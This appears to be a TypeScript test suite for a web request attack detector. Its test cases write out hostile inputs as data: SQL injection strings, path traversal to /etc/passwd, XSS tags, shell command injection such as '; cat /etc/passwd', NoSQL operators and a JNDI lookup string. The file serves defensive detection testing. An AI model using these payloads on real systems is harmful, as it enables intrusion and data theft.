import fc from 'fast-check';
import { ATTACKS, HONEST_TEXTS } from './attacks.fixture.ts';
import { ATTACK_SCORE, inspectRequest, inspectValue } from './index.ts';

const BROWSER = {
  Host: 'demo.example.org',
  'User-Agent':
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language': 'de-DE,de;q=0.9,en;q=0.8',
  Referer: 'https://demo.example.org/datasets?page=2&sort=-created',
  Cookie: 'session=eyJhbGciOiJIUzI1NiJ9.e30.abc_def-ghi; theme=dark',
  'If-None-Match': 'W/"abc"',
};

describe('inspectValue', () => {
  it.each(Object.entries(ATTACKS))('detects attacks of the class %s', (name, texts) => {
    const missed = texts.filter((text) => !inspectValue(text).detected);
    expect({ name, missed: missed.length <= texts.length * 0.05 ? [] : missed }).toEqual({
      name,
      missed: [],
    });
  });

  it('leaves honest texts alone, although they contain the same words and signs', () => {
    const flagged = HONEST_TEXTS.filter((text) => inspectValue(text).detected);
    expect(flagged).toEqual([]);
  });

  it('names the class of an attack first in its rules', () => {
    expect(inspectValue("' union select 1,2--").rules[0]).toMatch(/^sql\./);
    expect(inspectValue('../../../etc/passwd').rules.some((rule) => rule.startsWith('path.'))).toBe(
      true,
    );
  });

  it('sees through layers of encoding', () => {
    const texts = ["' or 1=1--", '<script>alert(1)</script>', '../../etc/passwd'];
    const layers = fc.array(fc.constantFrom('url', 'all', 'html', 'js'), { maxLength: 3 });
    const encode = (text: string, layer: string): string => {
      const hex = (char: string, width: number): string =>
        char.charCodeAt(0).toString(16).padStart(width, '0');
      if (layer === 'url') return encodeURIComponent(text);
      if (layer === 'all') return [...text].map((char) => `%${hex(char, 2)}`).join('');
      if (layer === 'html') return [...text].map((char) => `&#x${hex(char, 2)};`).join('');
      return [...text].map((char) => `\\u${hex(char, 4)}`).join('');
    };
    fc.assert(
      fc.property(fc.constantFrom(...texts), layers, (text, names) => {
        expect(inspectValue(names.reduce(encode, text)).detected).toBe(true);
      }),
    );
  });

  it('answers for any text, the same each time, with a score that fits', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc
        .array(
          fc.constantFrom(...Object.values(ATTACKS).flat(), '%', '&#', '\\u', '<', "'", '{{'),
          {
            maxLength: 8,
          },
        )
        .map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (value) => {
        const answer = inspectValue(value);
        expect(answer.score).toBeGreaterThanOrEqual(0);
        expect(answer.score).toBeLessThanOrEqual(1);
        expect(answer.detected).toBe(answer.score >= ATTACK_SCORE);
        expect(inspectValue(value)).toEqual(answer);
      }),
      { numRuns: 500 },
    );
  });

  it('takes time in proportion to the length of a text', () => {
    const parts = [
      "'",
      '(',
      '%25',
      '../',
      '<a ',
      '{{',
      '${',
      '/*',
      '&&',
      'on',
      '--',
      ' a=',
      '|',
      '$(',
    ];
    for (const part of parts) {
      const timeOf = (length: number): number => {
        const text = part.repeat(length / part.length);
        const started = performance.now();
        inspectValue(text);
        return performance.now() - started;
      };
      timeOf(4000);
      expect({ part, isFast: timeOf(60_000) < 1000 }).toEqual({ part, isFast: true });
    }
  });
});

describe('inspectRequest', () => {
  it('lets requests of a browser and of a program pass', () => {
    const honest = [
      { method: 'GET', path: '/v1/datasets', query: 'limit=50&sort=-created', headers: BROWSER },
      {
        method: 'POST',
        path: '/v1/datasets/0190f3a4-7c1e-7b52-9d5f-0c9d1e2f3a4b/forecasts',
        headers: { 'Content-Type': 'application/json', 'User-Agent': 'python-requests/2.32' },
        body: '{"horizon":12,"levels":[80,95],"note":"order by Monday; select the union"}',
      },
      {
        method: 'POST',
        path: '/v1/imports',
        headers: { 'Content-Type': 'text/csv', 'User-Agent': 'curl/8.5.0' },
        body: 'unique_id,ds,y\nA-1,2024-01-01,10\nB/2,2024-01-01,12.5\n',
      },
    ];
    for (const request of honest) {
      expect({ path: request.path, ...inspectRequest(request) }).toMatchObject({
        path: request.path,
        detected: false,
      });
    }
  });

  it.each<[string, Parameters<typeof inspectRequest>[0]]>([
    ['path', { path: '/files/..%2f..%2fetc/passwd' }],
    ['query value', { query: 'id=1%27%20OR%201=1--' }],
    ['query name', { query: "x'%3Bdrop%20table%20y--=1" }],
    ['parsed query', { query: { filter: { $ne: null } } }],
    ['header', { headers: { 'User-Agent': '${jndi:ldap://x/a}' } }],
    ['cookie', { headers: { Cookie: 'a=b; c=%3Cscript%3Ealert(1)%3C/script%3E' } }],
    ['JSON body', { body: '{"a":[{"b":"<svg onload=alert(1)>"}]}' }],
    ['JSON key', { body: { user: { $gt: '' } } }],
    ['form body', { body: 'name=x&q=%3B%20cat%20/etc/passwd' }],
    [
      'multipart body',
      { body: '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n; ls -la\r\n--b--' },
    ],
    ['XML body', { headers: { 'content-type': 'text/xml' }, body: '<a b="; ls -la"/>' }],
    ['method', { method: 'FOO' }],
    ['user agent of a scanner', { headers: { 'User-Agent': 'sqlmap/1.8' } }],
    ['two lengths', { headers: { 'Content-Length': '4', 'Transfer-Encoding': 'chunked' } }],
  ])('detects an attack in the %s', (_, request) => {
    expect(inspectRequest(request).detected).toBe(true);
  });

  it('does not add up weak evidence of different parts', () => {
    const weak = 'hello {{name}}';
    expect(inspectValue(weak).score).toBeGreaterThan(0);
    const query = Object.fromEntries(Array.from({ length: 50 }, (__, i) => [`k${i}`, weak]));
    expect(inspectRequest({ query }).detected).toBe(false);
  });

  it('does not follow deep or endless bodies', () => {
    let body: unknown = 'x';
    for (let i = 0; i < 5000; i += 1) body = [body];
    expect(inspectRequest({ body }).detected).toBe(false);
    expect(inspectRequest({ body: `${'['.repeat(50_000)}` })).toBeDefined();
  });
});
